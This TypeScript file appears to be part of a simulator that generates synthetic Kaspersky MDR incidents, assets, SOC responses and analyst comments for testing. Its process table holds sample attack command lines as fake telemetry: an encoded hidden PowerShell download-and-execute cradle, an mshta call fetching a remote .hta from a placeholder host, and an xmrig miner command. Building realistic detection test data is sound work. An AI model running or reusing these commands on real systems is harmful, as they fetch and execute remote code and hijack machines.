import { buildEstate, DAY_MS } from '../../sim/estate';
import type { EstateMachine } from '../../sim/estate';
import { hashString, Random } from '../../sim/random';
import type * as wire from '../wire';
import { scenariosFor } from './scenarios';
import type { Scenario } from './scenarios';

export { MITRE } from './scenarios';

const AUTHORS = ['SOC Analyst Ivanova', 'SOC Analyst Petrov', 'Tier 2 Analyst Chen', 'MDR Service'];
/** Response types as the simulator spells them (README.md: only RUN_SCRIPT is confirmed). */
export const RESPONSE_TYPES = [
  'RUN_SCRIPT',
  'ISOLATE_HOST',
  'QUARANTINE_FILE',
  'DELETE_FILE',
  'KILL_PROCESS',
  'COPY_FILE_TO_SOC',
  'PREVENTION',
];
/** KES for Linux and Mac take no prevention rules. */
const POSIX_RESPONSE_TYPES = RESPONSE_TYPES.filter((t) => t !== 'PREVENTION');

export const DAY = DAY_MS;

/** Files a SOC asks to copy, quarantine, delete or block: paths by OS family, as an attack leaves them. */
const ARTIFACTS = {
  windows: [
    'C:\\Users\\Public\\Downloads\\invoice_2211.js',
    'C:\\ProgramData\\Microsoft\\Crypto\\RSA\\svchost32.exe',
    'C:\\Windows\\Temp\\rclone.exe',
    'C:\\Users\\Public\\Libraries\\update.dll',
    'C:\\Windows\\System32\\Tasks\\OneDriveSync.xml',
    'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\shell.aspx',
  ],
  linux: ['/tmp/.X11-unix/.kworker', '/var/tmp/kinsing', '/dev/shm/.x/xmrig', '/etc/cron.d/.sysupdate'],
};
const PROCESSES: Record<'windows' | 'linux', readonly (readonly [string, string, string])[]> = {
  windows: [
    [
      'powershell.exe',
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    ],
    [
      'rundll32.exe',
      'C:\\Windows\\System32\\rundll32.exe',
      'C:\\Users\\Public\\Libraries\\update.dll,DllRegisterServer',
    ],
    ['svchost32.exe', 'C:\\ProgramData\\Microsoft\\Crypto\\RSA\\svchost32.exe', '-k netsvcs'],
    ['mshta.exe', 'C:\\Windows\\System32\\mshta.exe', 'https://cdn-update.example.net/p.hta'],
  ],
  linux: [
    ['kinsing', '/var/tmp/kinsing', ''],
    ['xmrig', '/dev/shm/.x/xmrig', '--donate-level 1 -o pool.example.net:3333'],
  ],
};

/** `length` hex digits, eight per draw (the simulated estate draws tens of thousands of hashes). */
function hex(rng: Random, length: number): string {
  let out = '';
  while (out.length < length) out += (Math.floor(rng.next() * 2 ** 32) >>> 0).toString(16).padStart(8, '0');
  return out.slice(0, length);
}

/**
 * What a proposed response acts on, in MDR's `details` (and `parameters` where the vendor puts
 * them): drawn from the response's own id so adding targets shifts no other simulated data.
 */
/** Response types whose target is a file on the host. */
const FILE_TYPES = new Set(['COPY_FILE_TO_SOC', 'QUARANTINE_FILE', 'DELETE_FILE', 'PREVENTION']);

function responseTarget(
  type: string,
  responseId: string,
  asset: wire.Asset,
  isolationHours: number,
): Pick<wire.Response, 'details' | 'parameters'> {
  const r = new Random(`mdr:response:${responseId}`);
  const family = /windows/i.test(asset.os_version ?? '') ? 'windows' : 'linux';
  const file = r.pick(ARTIFACTS[family]);
  const hashes = () => ({ md5: hex(r, 32), sha256: hex(r, 64) });
  switch (type) {
    case 'COPY_FILE_TO_SOC':
      return { details: { file_path: file, file_size_limit: r.pick([10, 50, 100]) }, parameters: null };
    case 'QUARANTINE_FILE':
    case 'DELETE_FILE':
      return { details: { file_path: file, ...hashes() }, parameters: null };
    case 'PREVENTION':
      return { details: { file_path: file, ...hashes() }, parameters: null };
    case 'KILL_PROCESS': {
      const [name, path, args] = r.pick(PROCESSES[family]);
      return {
        details: {
          process_id: r.int(400, 65_000),
          process_name: name,
          file_path: path,
          command_line: args ? `"${path}" ${args}` : path,
          sha256: hex(r, 64),
        },
        parameters: null,
      };
    }
    case 'RUN_SCRIPT':
      return family === 'windows'
        ? {
            details: { file_path: 'C:\\ProgramData\\Kaspersky Lab\\MDR\\collect_triage.ps1', file_size_limit: 0 },
            parameters: { interpreter: 'powershell', workingDirectory: 'C:\\Windows', interpreterParameters: null },
          }
        : {
            details: { file_path: '/opt/kaspersky/mdr/collect_triage.sh', file_size_limit: 0 },
            parameters: { interpreter: 'bash', workingDirectory: '/tmp', interpreterParameters: null },
          };
    case 'ISOLATE_HOST':
      return { details: {}, parameters: { isolation_period_s: 3600 * isolationHours } };
    default:
      return { details: {}, parameters: null };
  }
}

/** The id alphabet of the vendor's 20-character (Elasticsearch-style) incident ids. */
const ID_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
export function esId(rng: Random): string {
  const id = new Array<string>(20);
  // Five 6-bit characters per draw, joined once (flat): start-up builds hundreds of thousands of ids.
  for (let i = 0; i < 4; i++) {
    let bits = Math.floor(rng.next() * 2 ** 30);
    for (let j = 0; j < 5; j++, bits >>>= 6) id[i * 5 + j] = ID_ALPHABET[bits & 63]!;
  }
  return id.join('');
}

/** MDR's assets (the estate's inMdr machines) and, position for position, the machine behind each. */
export interface MdrAssets {
  assets: wire.Asset[];
  machines: EstateMachine[];
  /** Asset positions per tenant name ('' = the root tenant). */
  byTenant: Map<string, number[]>;
}

export function buildAssets(seed: number, scale: number, epochMs: number): MdrAssets {
  const rng = new Random(seed).fork('mdr:assets');
  const machines = buildEstate(seed, scale, epochMs).machines.filter((m) => m.inMdr);
  const byTenant = new Map<string, number[]>();
  const assets = machines.map((m, position): wire.Asset => {
    const r = rng.next();
    // Online machines report a health state; silent ones are offline, or absent after a week.
    const status = !m.online
      ? epochMs - m.lastSeen < 7 * DAY
        ? 'OFFLINE'
        : 'ABSENT'
      : r < 0.8
        ? 'OK'
        : r < 0.95
          ? 'WARNING'
          : 'CRITICAL';
    const extraIp = rng.chance(0.15) ? `|192.168.${rng.int(0, 255)}.${rng.int(1, 254)}` : '';
    let members = byTenant.get(m.tenant);
    if (!members) byTenant.set(m.tenant, (members = []));
    members.push(position);
    return {
      asset_id: `0x${new Random(hashString(`mdr:${seed}:${m.hostName}`)).hex(32).toUpperCase()}`,
      host_name: m.hostName,
      domain: m.domain,
      os_version: `${m.osName} ${m.osVersion}`,
      status,
      isolation: status === 'CRITICAL' || rng.chance(0.02),
      installed_product_info: `Kaspersky Endpoint Security for ${m.osFamily === 'macOS' ? 'Mac 12.1' : m.osFamily === 'Linux' ? 'Linux 12.1' : 'Windows 12.6'}`,
      network_interfaces: [
        { ip: `${m.ipAddress}${extraIp}`, mac: m.macAddress, dsc: 'Ethernet', defg: '', dnsd: m.domain, ipcm: '' },
      ],
      tenant_name: m.tenant,
      first_seen: m.firstSeen,
      last_seen: m.lastSeen,
    };
  });
  return { assets, machines, byTenant };
}

/** A response as filters see it: what `response_statuses` and `response_types` match. */
export interface ResponseKey {
  readonly type: string;
  readonly status: string;
}

/**
 * What lists filter and sort by, kept for every incident (a few dozen bytes: texts, responses and
 * comments are drawn again from the seed when an incident is shown). Field names are the wire
 * names, so one filter serves these and full incidents alike.
 */
export class IncidentCore {
  constructor(
    readonly index: number,
    readonly incident_id: string,
    readonly creation_time: number,
    readonly update_time: number,
    readonly status: string,
    readonly resolution: string,
    readonly priority: string,
    readonly tenant_name: string,
    readonly detection_technology: string,
    readonly scenario: Scenario,
    /** Asset positions; all in the incident's tenant. */
    readonly hosts: readonly number[],
    readonly responses: readonly ResponseKey[],
  ) {}

  get incident_number(): number {
    return incidentNumber(this.index);
  }
  get summary(): string {
    return this.scenario.summary;
  }
  get mitre_tactics(): readonly string[] {
    return this.scenario.mitre_tactics;
  }
  get mitre_techniques(): readonly string[] {
    return this.scenario.mitre_techniques;
  }
}

export const incidentNumber = (index: number) => 1_300_000 + index;

/** How far back incidents reach: 40 minutes apart up to a year (scale 1: 9 months), denser beyond. */
function incidentSpan(total: number): number {
  return Math.min(365 * DAY, Math.max(7 * DAY, total * 2_400_000));
}

export function incidentTotal(scale: number): number {
  return Math.max(10, Math.round(10_000 * scale));
}

/** Response pairs are few (types × statuses): interned, so a million incidents share them. */
const responseKeys = new Map<string, readonly ResponseKey[]>();
function internResponses(pairs: ResponseKey[]): readonly ResponseKey[] {
  const key = pairs.map((p) => `${p.type}=${p.status}`).join('|');
  let found = responseKeys.get(key);
  if (!found) responseKeys.set(key, (found = Object.freeze(pairs.map((p) => Object.freeze(p)))));
  return found;
}

/** One incident's core, drawn only from (seed, index): any incident can be rebuilt without the others. */
export function buildIncidentCore(
  seed: number,
  index: number,
  total: number,
  epochMs: number,
  mdr: MdrAssets,
): IncidentCore {
  const rng = new Random(hashString(`mdr:${seed}:incident:${index}`));
  const step = Math.floor(incidentSpan(total) / total);
  // Creation times rise with the index up to the epoch; a few share a millisecond so the
  // (creation_time, incident_id) tiebreak matters.
  const creation =
    epochMs - (total - index) * step + (index % 7 === 3 ? -1_000 : 0) - (index % 7 === 4 ? step + 1_000 : 0);
  const first = rng.int(0, mdr.assets.length - 1);
  const machine = mdr.machines[first]!;
  // Further hosts come from the first one's tenant: an incident never spans customers.
  const pool = mdr.byTenant.get(machine.tenant)!;
  const want = Math.min(pool.length, rng.chance(0.8) ? 1 : rng.int(2, 4));
  const hosts = [first];
  for (let tries = 0; hosts.length < want && tries < 20; tries++) {
    const next = pool[rng.int(0, pool.length - 1)]!;
    if (!hosts.includes(next)) hosts.push(next);
  }
  const server = machine.role === 'server' || machine.role === 'domain-controller';
  const scenario = rng.pick(scenariosFor(machine.osFamily, server));
  const age = epochMs - creation;
  // The SOC closes within days: what is open is recent.
  const status = age < 3 * DAY ? (rng.chance(0.85) ? 'Open' : 'On hold') : rng.chance(0.35) ? 'Resolved' : 'Closed';
  const resolution =
    status === 'Resolved'
      ? 'True positive'
      : status === 'Closed'
        ? rng.chance(0.65)
          ? 'True positive'
          : 'False positive'
        : '';
  const priority = rng.pick(['LOW', 'NORMAL', 'NORMAL', 'HIGH']);
  const detection = rng.pick(scenario.detection);
  const update = creation + rng.int(Math.min(60_000, age), Math.max(Math.min(60_000, age), Math.min(age, 5 * DAY)));
  const types = machine.osFamily === 'Windows' ? RESPONSE_TYPES : POSIX_RESPONSE_TYPES;
  const count = resolution === 'False positive' ? rng.int(0, 1) : resolution ? rng.int(1, 3) : rng.int(0, 2);
  const responses = rng.sample(types, count).map((type) => ({
    type,
    status: !resolution
      ? rng.chance(0.6)
        ? 'Waiting'
        : rng.pick(['Confirmed', 'Declined'])
      : resolution === 'False positive'
        ? 'Declined'
        : rng.chance(0.85)
          ? 'Confirmed'
          : 'Declined',
  }));
  return new IncidentCore(
    index,
    esId(rng),
    creation,
    update,
    status,
    resolution,
    priority,
    machine.tenant,
    detection,
    scenario,
    hosts,
    internResponses(responses),
  );
}

/** Every incident's core, in (creation_time, incident_id) order: the default sort is then a single pass. */
export function buildIncidentCores(seed: number, scale: number, epochMs: number, mdr: MdrAssets): IncidentCore[] {
  const total = incidentTotal(scale);
  const cores = Array.from({ length: total }, (_, i) => buildIncidentCore(seed, i, total, epochMs, mdr));
  return cores.sort(
    (a, b) =>
      a.creation_time - b.creation_time || (a.incident_id < b.incident_id ? -1 : a.incident_id > b.incident_id ? 1 : 0),
  );
}

/**
 * Response ids carry their incident's index (scrambled, so they look random), so a decision on
 * any of a million incidents finds it without an index of every response.
 */
const SCRAMBLE = 0x2c1b3c6d;
const UNSCRAMBLE = inverseOdd(SCRAMBLE);
function inverseOdd(a: number): number {
  let x = a;
  for (let i = 0; i < 5; i++) x = Math.imul(x, 2 - Math.imul(a, x)) >>> 0;
  return x >>> 0;
}

function responseId(index: number, k: number, rng: Random): string {
  const head = (Math.imul(index, SCRAMBLE) >>> 0).toString(16).padStart(8, '0');
  return `MDR_${head}-${(0xa000 + k).toString(16)}-4${rng.hex(3)}-${'89ab'[rng.int(0, 3)]}${rng.hex(3)}-${rng.hex(12)}`;
}

/** The incident index a response id names, or undefined when it is not one the data set made. */
export function incidentIndexOfResponse(responseId: string): number | undefined {
  const m = /^MDR_([0-9a-f]{8})-a/.exec(responseId);
  return m ? Math.imul(parseInt(m[1]!, 16), UNSCRAMBLE) >>> 0 : undefined;
}

const VERDICT: Record<string, string> = {
  Open: 'The SOC is investigating it; there is no verdict yet.',
  'On hold': 'The investigation is on hold until the customer answers the SOC’s questions.',
  Resolved: 'The SOC confirmed it as malicious behaviour; the threat has been contained.',
  'True positive': 'The SOC confirmed it as malicious behaviour.',
  'False positive': 'The SOC found it to be legitimate activity (false positive).',
};

const STATUS_DESCRIPTION: Record<string, string> = {
  Resolved: 'Contained by the confirmed responses.',
  'True positive': 'Closed by SOC after confirmation.',
  'False positive': 'Closed as a false positive after review.',
};

/** An incident with its texts, responses and comments, drawn from the seed for its core. */
export function materializeIncident(seed: number, core: IncidentCore, mdr: MdrAssets): wire.Incident {
  const rng = new Random(hashString(`mdr:${seed}:incident:${core.index}:details`));
  const hosts = core.hosts.map((p) => mdr.assets[p]!);
  const machine = mdr.machines[core.hosts[0]!]!;
  const s = core.scenario;
  const sam = machine.user.sam;
  const user = `${machine.user.netbiosDomain}\\${sam}`;
  const file = s.file.path.replace('%u', sam);
  const windows = machine.osFamily === 'Windows';
  const closedAs = core.status === 'Resolved' ? 'Resolved' : core.resolution || core.status;
  const span = Math.max(1, core.update_time - core.creation_time);
  const at = (share: number) => core.creation_time + Math.floor(span * share);

  // A scenario written for Windows may land on a Mac: its own file and process then do not fit.
  const ownFits = windows === /^[A-Z]:\\/.test(file);
  // Responses act on the hosts of the scenario's OS: the file and process they name are of that OS.
  const targets = hosts.filter((_, i) => mdr.machines[core.hosts[i]!]!.osFamily === machine.osFamily);
  const responses = core.responses.map(({ type, status }, k): wire.Response => {
    const asset = targets[k % targets.length]!;
    const t = at(0.2 + 0.1 * k);
    const id = responseId(core.index, k, rng);
    const target = responseTarget(type, id, asset, rng.int(1, 24));
    return {
      response_id: id,
      incident_id: core.incident_id,
      type,
      status,
      asset_id: asset.asset_id,
      comment: status === 'Declined' ? 'Automatically rejected, because the task timeout has expired' : '',
      description: `${type.replace(/_/g, ' ').toLowerCase()} on ${asset.host_name}`,
      // The target as the response type names it; the incident's own file and process where it has them.
      details: !ownFits
        ? target.details
        : FILE_TYPES.has(type)
          ? { ...target.details, file_path: file }
          : type === 'KILL_PROCESS'
            ? {
                ...target.details,
                process_name: processName(s.chain[s.chain.length - 1]!),
                file_path: s.chain[s.chain.length - 1]!.split(' ')[0]!.replace('%u', sam),
                command_line: s.chain[s.chain.length - 1]!.replace('%u', sam),
              }
            : target.details,
      parameters:
        type === 'RUN_SCRIPT' && windows
          ? { ...target.parameters, workingDirectory: 'C:\\Windows\\Temp' }
          : target.parameters,
      creation_time: t,
      update_time: status === 'Waiting' ? t : at(0.5 + 0.1 * k),
      was_read: rng.chance(0.5),
    };
  });

  const thread = [
    `Initial triage of **${hosts[0]!.host_name}**: ${s.finding}.`,
    ...(responses.length
      ? [`Proposed responses: ${responses.map((r) => r.type.replace(/_/g, ' ').toLowerCase()).join(', ')}.`]
      : []),
    ...(core.status === 'Open' ? [`Checking \`${file}\` and the recent activity of \`${user}\`.`] : []),
    ...(core.status === 'On hold' ? ['Waiting for the customer to confirm whether this activity was planned.'] : []),
    ...(closedAs === 'Resolved' ? ['Responses applied; no further activity seen on the host.'] : []),
    ...(closedAs === 'True positive' ? ['Confirmed as malicious; closing after the responses were applied.'] : []),
    ...(closedAs === 'False positive' ? [`Closed as a false positive: ${s.benign}.`] : []),
  ];
  // New incidents may have no comment yet; closed ones keep the whole thread, closing note included.
  const keep = core.resolution ? thread.length : rng.int(0, thread.length);
  const comments = thread.slice(0, keep).map((text, i): wire.Comment => ({
    comment_id: esId(rng),
    author_name: AUTHORS[(core.index + i) % AUTHORS.length]!,
    text,
    creation_time: i === thread.length - 1 && core.resolution ? core.update_time : at(0.1 + (0.8 * i) / thread.length),
    origin: 'Service',
    was_read: rng.chance(0.5),
  }));

  const others = hosts.length > 1 ? ` and ${hosts.length - 1} more host${hosts.length > 2 ? 's' : ''}` : '';
  const description = [
    `## ${s.summary}`,
    `Activity was observed on **${hosts[0]!.host_name}**${others} (user \`${user}\`). ${VERDICT[closedAs] ?? VERDICT.Open}`,
    `Process chain: ${s.chain.map((p) => `\`${p.replace('%u', sam)}\``).join(' → ')}`,
    s.mitre_techniques.map((t) => `- ${t}`).join('\n'),
    core.resolution === 'False positive'
      ? 'Recommended: no action is needed.'
      : `Recommended: block \`${file}\` and reset the password of \`${user}\`.`,
  ].join('\n\n');

  return {
    incident_id: core.incident_id,
    incident_number: core.incident_number,
    summary: s.summary,
    description,
    client_description: '',
    status_description: STATUS_DESCRIPTION[closedAs] ?? '',
    priority: core.priority,
    status: core.status,
    resolution: core.resolution,
    affected_hosts: hosts.map((a) => `${a.host_name}:${a.asset_id}`),
    detection_technology: core.detection_technology,
    attack_stage: s.attack_stage,
    mitre_tactics: [...s.mitre_tactics],
    mitre_techniques: [...s.mitre_techniques],
    creation_time: core.creation_time,
    update_time: core.update_time,
    origin: 'Service',
    tenant_name: core.tenant_name,
    was_read: rng.chance(0.6),
    responses,
    comments,
  };
}

/**
 * Moves a live incident on (the estate's activity): its verdict, status description and a SOC
 * comment follow, so its texts keep telling the same story as its status.
 */
export function setStatus(incident: wire.Incident, status: 'On hold' | 'Resolved', at: number, rng: Random): void {
  const was = VERDICT[incident.status] ?? VERDICT.Open!;
  incident.status = status;
  if (status === 'Resolved') incident.resolution = 'True positive';
  incident.status_description = STATUS_DESCRIPTION[status] ?? '';
  incident.description = incident.description?.replace(was, VERDICT[status]!);
  const text =
    status === 'Resolved'
      ? 'Responses applied; no further activity seen on the host.'
      : 'Waiting for the customer to confirm whether this activity was planned.';
  const comments = (incident.comments ??= []);
  if (!comments.some((c) => c.text === text))
    comments.push({
      comment_id: esId(rng),
      author_name: AUTHORS[comments.length % AUTHORS.length]!,
      text,
      creation_time: at,
      origin: 'Service',
      was_read: false,
    });
}

/** `rundll32.exe C:\…` → `rundll32.exe`; `/tmp/x` → `x`. */
function processName(command: string): string {
  const exe = command.split(' ')[0]!;
  return exe.slice(Math.max(exe.lastIndexOf('\\'), exe.lastIndexOf('/')) + 1);
}

export function defaultClientId(seed: number): string {
  return new Random(hashString(`mdr:client:${seed}`)).hex(32);
}
